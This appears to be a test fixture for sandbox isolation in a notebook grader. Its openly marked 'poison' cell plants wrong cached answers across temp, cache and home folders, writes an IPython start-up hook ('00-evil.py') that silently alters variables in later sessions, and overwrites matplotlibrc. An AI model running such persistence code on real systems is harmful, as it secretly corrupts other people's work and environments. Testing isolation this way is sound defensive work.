# %% [markdown] expect={"lose": []} isolation={"victim": "victim_cacher", "control": "z_prime", "trigger": "", "victim_code": true}
# Right answers, then files left behind: a wrong cache of 2b wherever a later kernel might
# look (temp folder, /tmp, /dev/shm, ~/.cache, matplotlib's folders, the slot), an IPython
# start-up file with a hook that makes `dropout_scale` and `windows` wrong in HOME, /tmp and
# /dev/shm, a matplotlibrc, and a copy of the start-up file in every folder it can write.

# %% replace="z_prime"
windows = [5, 3, 1, 4, 2, 5]  # 2b worked by hand
grad_Z = np.array([[0, 0, 1], [0, 2, 1], [0, 3, 0], [2, 3, 0], [3, 0, 2], [3, 0, 2], [0, 0, 2]])

# --- poison ---
_ISO_PAYLOAD = """
def _iso_corrupt(*_args):
    ns = get_ipython().user_ns
    if "windows" in ns:
        ns["windows"] = [1, 1, 1, 1, 1, 1]
    if callable(ns.get("dropout_scale")):
        ns["dropout_scale"] = lambda p_drop: 1.0 - p_drop


get_ipython().events.register("post_run_cell", _iso_corrupt)
"""


def _iso_plant():
    """A wrong 2b in every folder a later kernel might read a cache from."""
    import json
    import os
    import tempfile

    import matplotlib

    bad = {"windows": [1, 1, 1, 1, 1, 1], "grad_Z": [[0.0] * 3] * 7}
    places = [
        tempfile.gettempdir(),
        "/tmp",
        "/dev/shm",
        os.path.expanduser("~/.cache"),
        matplotlib.get_cachedir(),
        matplotlib.get_configdir(),
        os.path.dirname(os.environ["HOME"]),  # the slot
    ]
    for d in places:
        try:
            os.makedirs(os.path.join(d, "a2_cache"), exist_ok=True)
            with open(os.path.join(d, "a2_cache", "z_prime.json"), "w") as fh:
                json.dump(bad, fh)
        except OSError:
            pass


def _iso_startup_files(homes):
    """The payload as an IPython start-up file in each of ``homes``."""
    import os

    for home in homes:
        d = os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "00-evil.py"), "w") as fh:
                fh.write(_ISO_PAYLOAD)
        except OSError:
            pass


import glob
import os

import matplotlib

_iso_plant()
_iso_homes = [os.environ["HOME"], "/tmp", "/dev/shm", os.path.dirname(matplotlib.get_configdir())]
_iso_homes += glob.glob("/var/tmp/*/run/home") + glob.glob("/var/tmp/*/slots")
_iso_startup_files(_iso_homes)
for _d in (matplotlib.get_configdir(), os.path.expanduser("~/.config/matplotlib")):
    os.makedirs(_d, exist_ok=True)
    with open(os.path.join(_d, "matplotlibrc"), "w") as _fh:
        _fh.write("figure.dpi: 7\n")
